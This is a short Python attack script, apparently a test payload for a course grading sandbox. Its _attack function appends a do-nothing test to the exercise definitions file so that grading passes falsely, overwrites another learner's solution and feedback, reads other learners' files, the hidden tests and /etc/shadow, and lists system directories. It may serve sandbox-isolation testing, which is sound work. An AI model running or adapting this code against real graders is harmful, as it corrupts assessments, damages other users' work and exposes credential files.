"""Append no-op tests to the course's exercises/defs/runq.py (the host's
and the sandbox's copy), overwrite another learner's solution and
feedback, and read another learner's files, the hidden tests and
/etc/shadow, printing whatever it got."""
import os

WHEN = "first call"


def _attack():
    report = []
    evil = "\n\n@public\ndef test_nothing(sol):\n    pass\n"
    import exercises.defs.runq as m
    for path in CTX["write"] + [m.__file__]:
        try:
            with open(path, "a") as f:
                f.write(evil)
            report.append("WROTE " + path)
        except OSError as e:
            report.append(f"could not write {path}: {type(e).__name__}")
    for path in CTX["read"] + [m.__file__]:
        try:
            with open(path) as f:
                report.append("READ " + f.read()[-300:])
        except OSError as e:
            report.append(f"could not read {path}: {type(e).__name__}")
    for root in ("/", "/sandbox", "/sandbox/lib/exercises/solutions", "/root", "/home", "/work"):
        try:
            report.append(f"LS {root}: {sorted(os.listdir(root))}")
        except OSError:
            pass
    print("\n".join(report))
